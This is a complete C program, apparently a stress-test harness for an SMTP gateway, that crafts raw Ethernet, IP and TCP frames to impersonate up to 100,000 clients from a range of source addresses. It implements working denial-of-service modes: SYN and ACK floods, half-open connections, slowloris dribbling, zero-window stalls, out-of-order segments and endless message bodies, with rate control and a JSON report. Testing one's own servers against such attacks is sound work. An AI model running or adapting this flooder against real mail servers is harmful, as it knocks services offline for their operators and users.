/* attacker.c - hostile clients by the ten thousand, from raw Ethernet frames.
 *
 * usage: attacker MODE INTERFACE GATEWAY-MAC GATEWAY-IP FIRST-IP [option=number ...]
 *
 * No kernel TCP is involved: each client is forty octets of state here, with an address of its own
 * from FIRST-IP on; the gateway under attack has to reach those addresses through this machine.
 * Modes:
 *   syn-flood    SYNs from addresses and ports drawn by chance, as many as go out
 *   ack-flood    the same with ACKs that belong to nothing
 *   half-open    SYN, and never the third step
 *   idle         opens, reads the greeting, says nothing
 *   slowloris    half of the clients send EHLO, the other half a body, one octet an interval
 *   zero-window  asks for replies and never opens its window for them
 *   one-byte     bodies in segments of one octet
 *   holes        bodies of which the front never comes
 *   hoard        bodies that come fast, to be held, and never end
 * Who is closed comes again. Runs for `seconds`, or until it is told to end; then says in JSON what
 * happened, and vanishes without a word to its connections, or with a reset to each (`bye=1`).
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

#include "base/clock.h"
#include "base/random.h"

#define CLIENTS_MAX   100000
#define BATCH_FRAMES  64
#define FRAME_BYTES   1600
#define SMTP_PORT     25
#define RETRY_US      1000000u
#define REOPEN_US     1000000u
#define SCAN_CLIENTS  2048 /* looked at in one round */
#define WINDOW        32768
#define HOLE_SEGMENTS 8
#define HOLE_BYTES    1000
#define HOARD_BYTES   48000
#define BODY_OCTETS   200 /* of one-byte bodies */
#define SOURCES_MASK  0x3fffffu
#define BUFFER_BYTES  (32 << 20)

enum { FIN = 1, SYN = 2, RST = 4, PSH = 8, ACK = 16 };

enum mode {
	SYN_FLOOD,
	ACK_FLOOD,
	HALF_OPEN,
	IDLE,
	SLOWLORIS,
	ZERO_WINDOW,
	ONE_BYTE,
	HOLES,
	HOARD,
	MODES
};

static const char *const mode_names[MODES] = {
    [SYN_FLOOD] = "syn-flood", [ACK_FLOOD] = "ack-flood", [HALF_OPEN] = "half-open",
    [IDLE] = "idle",           [SLOWLORIS] = "slowloris", [ZERO_WINDOW] = "zero-window",
    [ONE_BYTE] = "one-byte",   [HOLES] = "holes",         [HOARD] = "hoard",
};

struct headers {
	struct ether_header eth;
	struct {
		uint8_t version_ihl, tos;
		uint16_t length, id, fragment;
		uint8_t ttl, protocol;
		uint16_t checksum;
		uint32_t source, destination;
	} __attribute__((packed)) ip;
	struct {
		uint16_t source, destination;
		uint32_t seq, ack;
		uint8_t offset, flags;
		uint16_t window, checksum, urgent;
	} __attribute__((packed)) tcp;
} __attribute__((packed));

enum state { DOWN, OPENING, OPEN };

struct client {
	uint8_t state;
	uint8_t step;   /* replies seen */
	bool waiting;   /* for the reply to the command sent last */
	bool dribbling; /* in its EHLO or its body */
	uint16_t port;
	uint32_t iss, snd_next, command_seq, rcv_next;
	uint32_t octets; /* dribbled */
	uint64_t due_us; /* when it does something by itself */
};

struct attack {
	enum mode mode;
	int socket;
	uint8_t our_mac[6], their_mac[6];
	uint32_t gateway, first; /* host order */
	uint32_t count, seconds, rate, interval_ms, bye;
	struct client *clients;
	uint32_t scan;
	struct random random;
	uint64_t start_us, now_us, allowed;
	uint8_t frame[BATCH_FRAMES][FRAME_BYTES];
	struct iovec vector[BATCH_FRAMES];
	struct mmsghdr message[BATCH_FRAMES];
	uint32_t queued;
	uint32_t open, open_max;
	uint64_t sent, unsent, received, opened, told_421, resets, fins, replies;
};

static volatile sig_atomic_t stopped;

static void on_signal(int number)
{
	(void)number;
	stopped = 1;
}

static void die(const char *what)
{
	perror(what);
	exit(1);
}

/* -- frames ------------------------------------------------------------------------------------ */

static uint32_t sum_add(uint32_t sum, const void *data, size_t bytes)
{
	const uint8_t *octets = data;

	for (size_t i = 0; i + 1 < bytes; i += 2)
		sum += (uint32_t)octets[i] << 8 | octets[i + 1];
	if (bytes % 2 != 0)
		sum += (uint32_t)octets[bytes - 1] << 8;
	return sum;
}

static uint16_t sum_fold(uint32_t sum)
{
	while (sum >> 16 != 0)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

static void flush(struct attack *a)
{
	uint32_t done = 0;

	while (done < a->queued) {
		int count = sendmmsg(a->socket, a->message + done, a->queued - done, 0);

		if (count <= 0) {
			a->unsent += a->queued - done; /* the interface has no room: lost */
			break;
		}
		done += (uint32_t)count;
	}
	a->sent += done;
	a->queued = 0;
}

struct segment {
	uint32_t source; /* host order */
	uint16_t port;
	uint32_t seq, ack;
	uint8_t flags;
	uint16_t window;
	const void *data;
	size_t bytes;
};

static void send_segment(struct attack *a, const struct segment *s)
{
	static const uint8_t syn_options[4] = {2, 4, 1460 >> 8, 1460 & 0xff};
	size_t option_bytes = s->flags & SYN ? sizeof(syn_options) : 0;
	size_t tcp_bytes = sizeof(((struct headers *)0)->tcp) + option_bytes + s->bytes;
	struct headers *h = (void *)a->frame[a->queued];
	uint8_t *data = a->frame[a->queued] + sizeof(*h);
	uint32_t sum;

	memset(h, 0, sizeof(*h));
	memcpy(h->eth.ether_dhost, a->their_mac, 6);
	memcpy(h->eth.ether_shost, a->our_mac, 6);
	h->eth.ether_type = htons(ETHERTYPE_IP);
	h->ip.version_ihl = 0x45;
	h->ip.length = htons((uint16_t)(sizeof(h->ip) + tcp_bytes));
	h->ip.ttl = 64;
	h->ip.protocol = IPPROTO_TCP;
	h->ip.source = htonl(s->source);
	h->ip.destination = htonl(a->gateway);
	h->ip.checksum = sum_fold(sum_add(0, &h->ip, sizeof(h->ip)));
	h->tcp.source = htons(s->port);
	h->tcp.destination = htons(SMTP_PORT);
	h->tcp.seq = htonl(s->seq);
	h->tcp.ack = htonl(s->ack);
	h->tcp.offset = (uint8_t)((sizeof(h->tcp) + option_bytes) / 4 << 4);
	h->tcp.flags = s->flags;
	h->tcp.window = htons(s->window);
	memcpy(data, syn_options, option_bytes);
	if (s->bytes > 0)
		memcpy(data + option_bytes, s->data, s->bytes);
	sum = sum_add(IPPROTO_TCP + (uint32_t)tcp_bytes, &h->ip.source, 8);
	h->tcp.checksum = sum_fold(sum_add(sum, &h->tcp, tcp_bytes));
	a->vector[a->queued].iov_len = sizeof(h->eth) + sizeof(h->ip) + tcp_bytes;
	if (++a->queued == BATCH_FRAMES)
		flush(a);
}

/* -- clients ----------------------------------------------------------------------------------- */

static uint32_t index_of(const struct attack *a, const struct client *c)
{
	return (uint32_t)(c - a->clients);
}

static void client_send(struct attack *a, struct client *c, uint8_t flags, uint32_t seq,
                        const void *data, size_t bytes)
{
	bool shut = a->mode == ZERO_WINDOW && c->step > 0;
	struct segment segment = {.source = a->first + index_of(a, c),
	                          .port = c->port,
	                          .seq = seq,
	                          .ack = flags & ACK ? c->rcv_next : 0,
	                          .flags = flags,
	                          .window = shut ? 0 : WINDOW,
	                          .data = data,
	                          .bytes = bytes};

	send_segment(a, &segment);
}

static void client_write(struct attack *a, struct client *c, const char *text)
{
	size_t bytes = strlen(text);

	client_send(a, c, PSH | ACK, c->snd_next, text, bytes);
	c->snd_next += (uint32_t)bytes;
}

static void client_open(struct attack *a, struct client *c)
{
	uint16_t port = (uint16_t)(c->port + 1);

	if (port < 1024) /* the first one is drawn: earlier runs are remembered by the gateway */
		port = (uint16_t)(1024 + random_below(&a->random, 60000));
	*c = (struct client){.state = OPENING, .port = port};
	c->iss = (uint32_t)random_u64(&a->random);
	c->snd_next = c->iss + 1;
	c->due_us = a->now_us + RETRY_US;
	client_send(a, c, SYN, c->iss, NULL, 0);
}

static void client_down(struct attack *a, struct client *c)
{
	a->open -= c->state == OPEN;
	c->state = DOWN;
	c->due_us = a->now_us + REOPEN_US;
}

/* Commands up to DATA; the greeting has been reply 1. */
static const char *command_after(uint32_t step)
{
	static const char *const commands[] = {"", "EHLO attacker.example\r\n",
	                                       "MAIL FROM:<a@attacker.example>\r\n",
	                                       "RCPT TO:<b@backend.example>\r\n", "DATA\r\n"};

	return step < sizeof(commands) / sizeof(commands[0]) ? commands[step] : NULL;
}

static bool wants_body(const struct attack *a, const struct client *c)
{
	return a->mode == ONE_BYTE || a->mode == HOLES || a->mode == HOARD ||
	       (a->mode == SLOWLORIS && index_of(a, c) % 2 == 1);
}

static void client_command(struct attack *a, struct client *c)
{
	const char *command = command_after(c->step);

	if (command == NULL)
		return;
	c->command_seq = c->snd_next;
	c->waiting = true;
	c->due_us = a->now_us + RETRY_US;
	client_write(a, c, command);
}

static void client_replied(struct attack *a, struct client *c)
{
	a->replies++;
	c->waiting = false;
	if (a->mode == ONE_BYTE && c->step == 5)
		c->step = 1; /* the message has been answered: the next one */
	c->step++;
	c->octets = 0;
	c->dribbling = wants_body(a, c) ? c->step == 5 : c->step == 1;
	if (wants_body(a, c) && c->step < 5)
		client_command(a, c);
	else
		c->due_us = a->now_us + random_below(&a->random, a->interval_ms * 1000 + 1);
}

/* One octet of a body of short lines, its end at last. */
static char body_octet(uint32_t at)
{
	static const char head[] = "Subject: x\r\n\r\n", tail[] = "\r\n.\r\n";

	if (at < sizeof(head) - 1)
		return head[at];
	if (at >= BODY_OCTETS && at - BODY_OCTETS < sizeof(tail) - 1)
		return tail[at - BODY_OCTETS];
	return 'a';
}

static void dribble(struct attack *a, struct client *c)
{
	char text[2] = "a";

	if (c->octets < 5 && !wants_body(a, c))
		text[0] = "EHLO "[c->octets];
	if (a->mode == ONE_BYTE)
		text[0] = body_octet(c->octets);
	if (a->mode == ONE_BYTE && c->octets >= BODY_OCTETS + 5)
		return; /* its answer is due */
	c->octets++;
	client_write(a, c, text);
}

static void send_holes(struct attack *a, struct client *c)
{
	static char data[HOLE_BYTES];

	memset(data, 'h', sizeof(data));
	for (uint32_t i = 0; i < HOLE_SEGMENTS; i++)
		client_send(a, c, PSH | ACK, c->snd_next + 1 + i * (HOLE_BYTES + 1), data,
		            sizeof(data));
}

static void send_hoard(struct attack *a, struct client *c)
{
	static char data[HOLE_BYTES];

	for (uint32_t i = 0; i < HOLE_SEGMENTS && c->octets < HOARD_BYTES; i++) {
		client_send(a, c, PSH | ACK, c->snd_next, memset(data, 'h', sizeof(data)),
		            sizeof(data));
		c->snd_next += sizeof(data);
		c->octets += sizeof(data);
	}
}

static void client_act(struct attack *a, struct client *c)
{
	if (c->state == OPENING) {
		if (a->mode == HALF_OPEN)
			client_open(a, c); /* the next port */
		else
			client_send(a, c, SYN, c->iss, NULL, 0);
		c->due_us = a->now_us + RETRY_US * 3;
		return;
	}
	c->due_us = a->now_us + (uint64_t)a->interval_ms * 1000;
	if (c->waiting) {
		c->snd_next = c->command_seq; /* it or its reply was lost */
		client_command(a, c);
	} else if (a->mode == ZERO_WINDOW && c->step > 0) {
		client_write(a, c, "EHLO a\r\nNOOP\r\nEHLO b\r\nNOOP\r\nEHLO c\r\nHELP\r\n");
	} else if (a->mode == HOLES && c->dribbling) {
		send_holes(a, c);
	} else if (a->mode == HOARD && c->dribbling) {
		send_hoard(a, c);
	} else if (c->dribbling && (a->mode == SLOWLORIS || a->mode == ONE_BYTE)) {
		dribble(a, c);
	}
}

/* -- what comes back --------------------------------------------------------------------------- */

static bool ends_reply(const uint8_t *data, size_t bytes)
{
	size_t line = bytes;

	if (bytes < 5 || data[bytes - 1] != '\n')
		return false;
	for (line = bytes - 1; line > 0 && data[line - 1] != '\n';)
		line--;
	return bytes - line > 4 && data[line + 3] == ' ';
}

static void client_data(struct attack *a, struct client *c, uint32_t seq, const uint8_t *data,
                        size_t bytes, bool fin)
{
	bool shut = a->mode == ZERO_WINDOW && c->step > 0;

	if (seq != c->rcv_next || shut) {
		if (bytes > 0 || fin)
			client_send(a, c, ACK, c->snd_next, NULL, 0);
		return;
	}
	c->rcv_next += (uint32_t)bytes + fin;
	a->told_421 += bytes >= 3 && memcmp(data, "421", 3) == 0;
	if (fin) {
		a->fins++;
		client_send(a, c, FIN | ACK, c->snd_next, NULL, 0);
		client_down(a, c);
		return;
	}
	if (bytes == 0)
		return;
	bool reply = ends_reply(data, bytes);
	if (!reply || !wants_body(a, c) || c->step >= 4)
		client_send(a, c, ACK, c->snd_next, NULL, 0);
	if (reply)
		client_replied(a, c);
}

static void client_input(struct attack *a, struct client *c, const struct headers *h,
                         const uint8_t *data, size_t bytes)
{
	uint32_t seq = ntohl(h->tcp.seq);

	if (c->state == DOWN || ntohs(h->tcp.destination) != c->port)
		return;
	if (h->tcp.flags & RST) {
		a->resets++;
		client_down(a, c);
		return;
	}
	if (h->tcp.flags & SYN) {
		if (c->state == OPENING && a->mode != HALF_OPEN) {
			c->state = OPEN;
			a->opened++;
			if (++a->open > a->open_max)
				a->open_max = a->open;
			c->rcv_next = seq + 1;
		}
		if (a->mode != HALF_OPEN)
			client_send(a, c, ACK, c->snd_next, NULL, 0);
		c->due_us = a->now_us + RETRY_US * 3;
		return;
	}
	if (c->state == OPEN)
		client_data(a, c, seq, data, bytes, (h->tcp.flags & FIN) != 0);
}

static void frame_input(struct attack *a, const uint8_t *frame, size_t bytes)
{
	const struct headers *h = (const void *)frame;
	uint32_t at = ntohl(h->ip.destination) - a->first;
	size_t head = sizeof(h->eth) + sizeof(h->ip), length;

	if (bytes < sizeof(*h) || h->ip.version_ihl != 0x45 || h->ip.protocol != IPPROTO_TCP ||
	    at >= a->count)
		return;
	a->received++;
	length = sizeof(h->eth) + ntohs(h->ip.length);
	head += (size_t)(h->tcp.offset >> 4) * 4;
	if (length <= bytes && head <= length)
		client_input(a, &a->clients[at], h, frame + head, length - head);
}

/* At most a few batches, so that sending goes on. */
static bool receive(struct attack *a)
{
	static uint8_t frames[BATCH_FRAMES][FRAME_BYTES];
	struct iovec vectors[BATCH_FRAMES];
	struct mmsghdr messages[BATCH_FRAMES];

	memset(messages, 0, sizeof(messages));
	for (uint32_t i = 0; i < BATCH_FRAMES; i++) {
		vectors[i] = (struct iovec){frames[i], FRAME_BYTES};
		messages[i].msg_hdr.msg_iov = &vectors[i];
		messages[i].msg_hdr.msg_iovlen = 1;
	}
	for (int round = 0; round < 8; round++) {
		int count = recvmmsg(a->socket, messages, BATCH_FRAMES, MSG_DONTWAIT, NULL);

		if (count <= 0)
			return round > 0;
		for (int i = 0; i < count; i++)
			frame_input(a, frames[i], messages[i].msg_len);
	}
	return true;
}

/* -- the attack -------------------------------------------------------------------------------- */

/* How many more openings, or frames of a flood, the rate allows by now. */
static bool allowed(struct attack *a)
{
	if (a->rate > 0 && a->allowed >= (a->now_us - a->start_us) * a->rate / 1000000)
		return false;
	a->allowed++;
	return true;
}

static void flood(struct attack *a)
{
	for (uint32_t i = 0; i < BATCH_FRAMES && allowed(a); i++) {
		uint64_t chance = random_u64(&a->random);
		struct segment segment = {.source = a->first + ((uint32_t)chance & SOURCES_MASK),
		                          .port = (uint16_t)(1024 + (chance >> 32) % 60000),
		                          .seq = (uint32_t)(chance >> 24),
		                          .flags = SYN,
		                          .window = WINDOW};

		if (a->mode == ACK_FLOOD) {
			segment.flags = ACK;
			segment.ack = (uint32_t)(chance >> 13);
		}
		send_segment(a, &segment);
	}
	flush(a);
}

static void scan(struct attack *a)
{
	for (uint32_t i = 0; i < SCAN_CLIENTS && i < a->count; i++) {
		struct client *c = &a->clients[a->scan];

		a->scan = (a->scan + 1) % a->count;
		if (c->due_us > a->now_us)
			continue;
		if (c->state != DOWN)
			client_act(a, c);
		else if (allowed(a))
			client_open(a, c);
	}
}

static void run(struct attack *a)
{
	bool floods = a->mode == SYN_FLOOD || a->mode == ACK_FLOOD;

	a->start_us = clock_now_us();
	while (!stopped) {
		a->now_us = clock_now_us();
		if (a->now_us - a->start_us > a->seconds * 1000000ull)
			break;
		if (floods) {
			flood(a);
			if (a->rate > 0)
				usleep(500);
			continue;
		}
		bool busy = receive(a);
		scan(a);
		flush(a);
		struct pollfd fd = {a->socket, POLLIN, 0};
		if (!busy && poll(&fd, 1, 1) < 0 && errno != EINTR)
			die("poll");
	}
	a->now_us = clock_now_us();
}

static void say_bye(struct attack *a)
{
	for (uint32_t i = 0; i < a->count; i++)
		if (a->clients[i].state == OPEN)
			client_send(a, &a->clients[i], RST | ACK, a->clients[i].snd_next, NULL, 0);
	flush(a);
}

static void open_interface(struct attack *a, const char *name)
{
	bool floods = a->mode == SYN_FLOOD || a->mode == ACK_FLOOD;
	uint16_t protocol = htons(floods ? 0 : ETH_P_IP); /* 0: nothing is received */
	struct sockaddr_ll address = {.sll_family = AF_PACKET, .sll_protocol = protocol};
	struct ifreq request = {0};
	int bytes = BUFFER_BYTES, yes = 1;

	a->socket = socket(AF_PACKET, SOCK_RAW, protocol);
	if (a->socket < 0)
		die("socket");
	address.sll_ifindex = (int)if_nametoindex(name);
	if (address.sll_ifindex == 0 ||
	    bind(a->socket, (struct sockaddr *)&address, sizeof(address)) != 0)
		die(name);
	snprintf(request.ifr_name, sizeof(request.ifr_name), "%s", name);
	if (ioctl(a->socket, SIOCGIFHWADDR, &request) != 0)
		die("hardware address");
	memcpy(a->our_mac, request.ifr_hwaddr.sa_data, 6);
	if (setsockopt(a->socket, SOL_SOCKET, SO_RCVBUFFORCE, &bytes, sizeof(bytes)) != 0 ||
	    setsockopt(a->socket, SOL_SOCKET, SO_SNDBUFFORCE, &bytes, sizeof(bytes)) != 0 ||
	    setsockopt(a->socket, SOL_PACKET, PACKET_QDISC_BYPASS, &yes, sizeof(yes)) != 0)
		die("socket option");
	for (uint32_t i = 0; i < BATCH_FRAMES; i++) {
		a->vector[i].iov_base = a->frame[i];
		a->message[i].msg_hdr.msg_iov = &a->vector[i];
		a->message[i].msg_hdr.msg_iovlen = 1;
	}
}

static bool take_option(struct attack *a, const char *text)
{
	const char *value = strchr(text, '=');
	struct {
		const char *name;
		uint32_t *number;
	} options[] = {{"count", &a->count},
	               {"seconds", &a->seconds},
	               {"rate", &a->rate},
	               {"interval-ms", &a->interval_ms},
	               {"bye", &a->bye}};

	for (size_t i = 0; value != NULL && i < sizeof(options) / sizeof(options[0]); i++) {
		size_t len = (size_t)(value - text);

		if (strlen(options[i].name) == len && memcmp(options[i].name, text, len) == 0) {
			*options[i].number = (uint32_t)strtoul(value + 1, NULL, 10);
			return true;
		}
	}
	return false;
}

static bool take_arguments(struct attack *a, int argc, char **argv)
{
	struct in_addr gateway, first;
	unsigned mac[6];

	if (argc < 6)
		return false;
	for (a->mode = 0; a->mode < MODES && strcmp(argv[1], mode_names[a->mode]) != 0;)
		a->mode++;
	if (a->mode == MODES || sscanf(argv[3], "%x:%x:%x:%x:%x:%x", &mac[0], &mac[1], &mac[2],
	                               &mac[3], &mac[4], &mac[5]) != 6)
		return false;
	for (int i = 0; i < 6; i++)
		a->their_mac[i] = (uint8_t)mac[i];
	if (inet_pton(AF_INET, argv[4], &gateway) != 1 || inet_pton(AF_INET, argv[5], &first) != 1)
		return false;
	a->gateway = ntohl(gateway.s_addr);
	a->first = ntohl(first.s_addr);
	for (int i = 6; i < argc; i++)
		if (!take_option(a, argv[i]))
			return false;
	return a->count > 0 && a->count <= CLIENTS_MAX;
}

static void report(const struct attack *a)
{
	double seconds = (double)(a->now_us - a->start_us) / 1e6;

	printf("{\"mode\": \"%s\", \"seconds\": %.2f, \"sent\": %llu, \"sent_per_s\": %.0f, "
	       "\"unsent\": %llu, \"received\": %llu, \"opened\": %llu, \"open\": %u, "
	       "\"open_max\": %u, \"replies\": %llu, \"told_421\": %llu, \"resets\": %llu, "
	       "\"fins\": %llu}\n",
	       mode_names[a->mode], seconds, (unsigned long long)a->sent, (double)a->sent / seconds,
	       (unsigned long long)a->unsent, (unsigned long long)a->received,
	       (unsigned long long)a->opened, a->open, a->open_max, (unsigned long long)a->replies,
	       (unsigned long long)a->told_421, (unsigned long long)a->resets,
	       (unsigned long long)a->fins);
}

int main(int argc, char **argv)
{
	static struct attack a = {.count = 2000, .seconds = 10, .interval_ms = 1000};

	if (!take_arguments(&a, argc, argv)) {
		fputs("usage: attacker MODE INTERFACE GATEWAY-MAC GATEWAY-IP FIRST-IP\n"
		      "                [count=N] [seconds=N] [rate=N] [interval-ms=N] [bye=1]\n",
		      stderr);
		return 2;
	}
	signal(SIGTERM, on_signal);
	signal(SIGINT, on_signal);
	random_seed(&a.random, clock_now_us());
	a.clients = calloc(a.count, sizeof(a.clients[0]));
	if (a.clients == NULL)
		die("calloc");
	open_interface(&a, argv[2]);
	run(&a);
	if (a.bye)
		say_bye(&a);
	report(&a);
	close(a.socket);
	free(a.clients);
	return 0;
}
